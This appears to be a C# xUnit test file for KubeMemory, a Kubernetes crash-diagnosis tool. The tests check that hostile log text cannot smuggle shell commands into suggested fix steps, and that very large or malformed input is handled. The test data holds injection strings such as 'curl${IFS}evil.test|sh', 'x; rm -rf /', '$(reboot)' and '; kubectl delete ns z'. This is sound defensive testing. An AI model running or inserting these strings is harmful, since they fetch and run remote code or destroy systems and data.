using System.Diagnostics;
using System.Text;
using KubeMemory.Core.Diagnosis;
using KubeMemory.Core.Diagnosis.Processes;
using KubeMemory.Core.Signals;
using Xunit;

namespace KubeMemory.Tests.Core.Diagnosis;

/// <summary>Logs and messages are written by anybody: none may run in a reader's shell, stand the process still or speak for the program.</summary>
public sealed class HostileTextTests
{
    [Theory]
    [InlineData("command not found", "bash: line 1: ./run;reboot: No such file or directory", 127)]
    [InlineData("file", "panic: open /data/$(reboot)/x: permission denied", 1)]
    [InlineData("host", "Error: getaddrinfo ENOTFOUND db;curl${IFS}evil.test|sh", 1)]
    [InlineData("host", "could not translate host name \"$(touch /tmp/x)\" to address", 1)]
    [InlineData("option", "Error: getaddrinfo ENOTFOUND --kubeconfig=/tmp/x", 1)]
    [InlineData("quote", "PermissionError: [Errno 13] Permission denied: '/data/`id`'", 1)]
    [InlineData("user", "pods is forbidden: User \"system:serviceaccount:x:y; kubectl delete ns z\" cannot list resource \"pods\" in API group \"\"", 1)]
    public void Steps_OfHostileFact_CarryNothingThatAShellReads(string what, string log, int exitCode)
    {
        var diagnosis = Diagnoser.Default.Diagnose(ProcessCase.Crash(log, exitCode: exitCode).Case);

        var commands = (diagnosis.Main?.Steps ?? []).Concat(diagnosis.Explained.SelectMany(finding => finding.Steps)).Select(step => step.Command).OfType<string>();
        Assert.All(commands, command =>
        {
            Assert.DoesNotContain(command, c => c is ';' or '|' or '`' or '$' or '&' or '<' or '>' or '\n');
            Assert.DoesNotContain("--kubeconfig", command, StringComparison.Ordinal);
        });
        Assert.NotNull(what);
    }

    [Fact]
    public void Steps_OfHostileNamesInTheCase_FallAway()
    {
        var incident = DiagnoserTests.Crash("FATAL: dial tcp 10.0.3.7:5432: connect: connection refused") with { PodName = "x; rm -rf /", Namespace = "-A" };

        var diagnosis = Diagnoser.Default.Diagnose(incident);

        Assert.All(diagnosis.Main!.Steps, step => Assert.DoesNotContain("rm -rf", step.Command ?? "", StringComparison.Ordinal));
        Assert.All(diagnosis.Main.Steps, step => Assert.DoesNotContain("-n -A", step.Command ?? "", StringComparison.Ordinal));
    }

    [Fact]
    public void Cause_OfHostileFact_IsOnePlainLine()
    {
        var diagnosis = Diagnoser.Default.Diagnose(DiagnoserTests.Crash($"FATAL: database \"shop\u202e\t{new string('x', 5000)}{{image}}[redacted]\" does not exist"));

        Assert.Equal("database-not-found", diagnosis.Main?.Signature.Id);
        Assert.InRange(diagnosis.Main!.Cause.Length, 1, 600);
        Assert.DoesNotContain(diagnosis.Main.Cause, c => char.IsControl(c) || c == '\u202e');
        Assert.InRange(diagnosis.Main.Thing!.Length, 1, 200);
        Assert.DoesNotContain("registry.test", diagnosis.Main.Cause, StringComparison.Ordinal);
    }

    public static TheoryData<string, string> Heavy => new()
    {
        { "one long line", new string('a', 1 << 20) + " connection refused" },
        { "dots", string.Concat(Enumerable.Repeat("a.", 1 << 19)) },
        { "colons", string.Concat(Enumerable.Repeat("a:1", 1 << 18)) },
        { "blanks", new string(' ', 1 << 20) + "x" },
        { "braces", new string('{', 1 << 20) },
        { "deep JSON", string.Concat(Enumerable.Repeat("{\"a\":", 1 << 17)) },
        { "JSON in JSON", "{\"msg\":\"{\\\"msg\\\":\\\"" + new string('\\', 1 << 16) + "\"}" },
        { "many errors", string.Concat(Enumerable.Range(0, 20000).Select(i => $"ERROR dial tcp 10.0.0.1:{i % 9999 + 10}: connection refused\n")) },
        { "many same errors", string.Concat(Enumerable.Repeat("Caused by: java.net.UnknownHostException: db\n", 20000)) },
        { "frames", string.Concat(Enumerable.Repeat("\tat a.b.C.d(C.java:1)\n", 20000)) },
        { "slashes", string.Concat(Enumerable.Repeat("/a", 1 << 19)) + ": permission denied" },
        { "quotes", string.Concat(Enumerable.Repeat("\"'`", 1 << 18)) },
        { "levels", string.Concat(Enumerable.Repeat("ERROR ", 1 << 17)) },
        { "surrogates", string.Concat(Enumerable.Repeat("\ud83d", 1 << 18)) },
    };

    [Theory]
    [MemberData(nameof(Heavy))]
    public void Diagnose_HeavyText_ComesToAnEnd(string what, string text)
    {
        var diagnosis = Diagnoser.Default.Diagnose(DiagnoserTests.Crash(text));

        Assert.NotNull(diagnosis);
        Assert.NotNull(what);
    }

    [Fact]
    public void Diagnose_WholeCatalogueOnFullLogs_IsQuick()
    {
        var words = new[] { "request", "order", "GET /api/v1/items 200", "user=anna", "took 12 ms", "connection pool size 10", "error rate 0.1", "cache miss" };
        var text = new StringBuilder();
        for (var i = 0; text.Length < EvidenceBuilder.MaxBytes - 200; i++)
        {
            text.Append("2026-03-04T05:06:18.123Z ").Append(i % 3 == 0 ? "WARN " : "INFO ").Append(i).Append(' ');
            text.AppendJoin(' ', Enumerable.Range(0, 30).Select(n => words[(i + n) % words.Length])).Append('\n');
        }

        var crashed = DiagnoserTests.Crash(text + "FATAL: dial tcp 10.0.3.7:5432: connect: connection refused");
        var incident = crashed with
        {
            Evidence =
            [
                .. crashed.Evidence,
                .. Enumerable.Range(0, 5).Select(n => new CaseEvidence($"L{n}", EvidenceKind.Log, "Log of app", $"{n}{text.ToString().Replace("took", "took" + n, StringComparison.Ordinal)}", $"shop-{n}", "app", n % 2 == 0)),
            ],
        };
        Diagnoser.Default.Diagnose(incident);

        var watch = Stopwatch.StartNew();
        var diagnosis = Diagnoser.Default.Diagnose(incident);
        TestContext.Current.TestOutputHelper?.WriteLine($"{watch.ElapsedMilliseconds} ms for {SignatureCatalogue.All.Count} signatures and 6 logs");

        Assert.Equal("connection-refused", diagnosis.Main?.Signature.Id);
    }
}
